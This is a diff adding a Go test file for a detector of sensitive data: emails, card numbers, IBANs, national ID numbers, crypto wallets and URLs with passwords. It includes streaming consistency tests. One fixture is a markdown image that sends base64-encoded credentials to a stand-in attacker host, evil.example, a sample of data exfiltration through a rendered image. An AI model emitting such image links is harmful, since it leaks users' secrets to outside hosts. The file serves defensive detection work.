@@ -1,0 +1,150 @@
+package detect
+
+import (
+	"fmt"
+	"math/rand/v2"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+// planted are values in their surroundings, each with what is found in it.
+var planted = []struct{ text, want string }{
+	{"mail ann.lee+x@corp.example, please", "EMAIL"},
+	{`{"mail":"müller@büro.example","n":1}`, "EMAIL"},
+	{"I paid with 4111 1111 1111 1111 12/26", "CREDIT_CARD"},
+	{"card 5555-5555-5555-4444.", "CREDIT_CARD"},
+	{"amex 378282246310005", "CREDIT_CARD"},
+	{"IBAN DE89 3704 0044 0532 0130 00 thanks", "IBAN"},
+	{"to GB82WEST12345698765432;next", "IBAN"},
+	{"host 172.16.254.3:8080 is down", "IP_ADDRESS"},
+	{"at 2a02:8071:82c5:9a00::1f2e.", "IP_ADDRESS"},
+	{"device 3e:a0:ee:e8:b9:99 at", "MAC_ADDRESS"},
+	{"my SSN is 536-22-8726, ok", "US_SSN"},
+	{"ITIN 912-70-1234", "US_ITIN"},
+	{"EIN 12-3456789", "US_EIN"},
+	{"call +44 20 7946 0958 now", "PHONE"},
+	{"ring (212) 555-0187 today", "PHONE"},
+	{"ou 06 12 34 56 78 demain", "PHONE"},
+	{"NI number AB 12 34 56 C", "UK_NINO"},
+	{"NHS number 943 476 5919", "UK_NHS"},
+	{"DNI 12345678Z", "ES_DNI"},
+	{"su NIE X1234567L", "ES_NIE"},
+	{"codice fiscale RSSMRA85T10A562S", "IT_FISCAL_CODE"},
+	{"SIRET 732 829 320 00074", "FR_SIRET"},
+	{"SIREN 732 829 320", "FR_SIREN"},
+	{"NIR 2 55 08 14 168 025 38", "FR_NIR"},
+	{"BSN 111222333", "NL_BSN"},
+	{"PESEL 44051401359", "PL_PESEL"},
+	{"rijksregisternummer 85.07.30-033.28", "BE_NRN"},
+	{"AHV 756.9217.0769.85", "CH_AHV"},
+	{"Steuer-ID 86095742719", "DE_TAX_ID"},
+	{"VAT DE136695976", "VAT_NUMBER"},
+	{"VIN 1M8GDM9AXKP042788", "VIN"},
+	{"SWIFT DEUTDEFF500", "BIC"},
+	{"born on March 12, 1980 in", "DATE_OF_BIRTH"},
+	{"né le 12 mars 1980 à", "DATE_OF_BIRTH"},
+	{"position 48.85661, 2.35222", "GPS_COORDINATES"},
+	{"passport C01X00T47", "PASSPORT"},
+	{"pay 1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "CRYPTO_WALLET"},
+	{"pay bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "CRYPTO_WALLET"},
+	{"![x](https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw)", "MARKDOWN_IMAGE"},
+	{"db: postgres://app:s3cr3t-pA55@db.corp.example/x", "URL_PASSWORD"},
+}
+
+func newSet(t testing.TB, o Options) *Set {
+	t.Helper()
+	s, err := New(o)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return s
+}
+
+func TestPlanted(t *testing.T) {
+	s := newSet(t, Options{})
+	for _, p := range planted {
+		found := s.Scan([]byte(p.text), nil)
+		if len(found) != 1 || found[0].Entity != p.want {
+			t.Errorf("%q: %s, want %s", p.text, describe(p.text, found), p.want)
+		}
+	}
+}
+
+func describe(text string, list []Finding) string {
+	var out []string
+	for _, f := range list {
+		out = append(out, fmt.Sprintf("%s %.2f %q", f.Entity, f.Score, text[f.Start:f.End]))
+	}
+	return strings.Join(out, "; ")
+}
+
+// filler is what stands between planted values.
+var filler = strings.Fields("the password for it is in a key, of 12 Apples and TOKEN: (see 3.4) on 5 May, or a@b \"x\" -----BEGIN <b> {1,2} +4 éà ünß 10:20:30 // AB 99 ://x eyJ sk- 1/2/3 \n \n\n")
+
+func randomText(r *rand.Rand) string {
+	var b strings.Builder
+	for range 1 + r.IntN(20) {
+		switch r.IntN(12) {
+		case 0, 1, 2:
+			b.WriteString(planted[r.IntN(len(planted))].text)
+		case 3:
+			b.WriteString(strings.Repeat(filler[r.IntN(len(filler))], r.IntN(80)))
+		case 4:
+			b.WriteByte(byte(r.IntN(256)))
+		default:
+			b.WriteString(filler[r.IntN(len(filler))])
+		}
+		b.WriteString([]string{" ", " ", " ", "", "  ", "\n", ", ", "-"}[r.IntN(8)])
+	}
+	return b.String()
+}
+
+// TestStreamAgrees holds that a stream finds what a scan finds, however the
+// text is cut, and that no finding begins before what was said to be settled.
+func TestStreamAgrees(t *testing.T) {
+	s := newSet(t, Options{Canaries: []string{"the password"}, Custom: []Custom{{Entity: "FRUIT", Terms: []string{"12 apples", "5 May, or"}}}})
+	rounds := 6000
+	if testing.Short() {
+		rounds = 600
+	}
+	st := s.NewStream()
+	for seed := range rounds {
+		r := rand.New(rand.NewPCG(uint64(seed), 1))
+		text := randomText(r)
+		want := s.Scan([]byte(text), nil)
+		st.Reset()
+		got := pushAll(t, st, r, text)
+		if diff := cmp.Diff(want, got); diff != "" {
+			t.Fatalf("seed %d, text %q:\nscan   %s\nstream %s\n%s", seed, text, describe(text, want), describe(text, got), diff)
+		}
+	}
+}
+
+func pushAll(t *testing.T, st *Stream, r *rand.Rand, text string) (out []Finding) {
+	t.Helper()
+	settled := int64(0)
+	for rest := text; ; {
+		n := min(len(rest), 1+r.IntN(17))
+		before := len(out)
+		var now int64
+		out, now = st.Push([]byte(rest[:n]), n == len(rest), out)
+		for _, f := range out[before:] {
+			if int64(f.Start) < settled {
+				t.Fatalf("%q: a finding at %d after %d was settled", text, f.Start, settled)
+			}
+		}
+		if now < settled {
+			t.Fatalf("%q: settled went back from %d to %d", text, settled, now)
+		}
+		settled = now
+		if rest = rest[n:]; rest == "" {
+			break
+		}
+	}
+	if settled != int64(len(text)) {
+		t.Fatalf("%q: only %d settled at the end", text, settled)
+	}
+	return out
+}
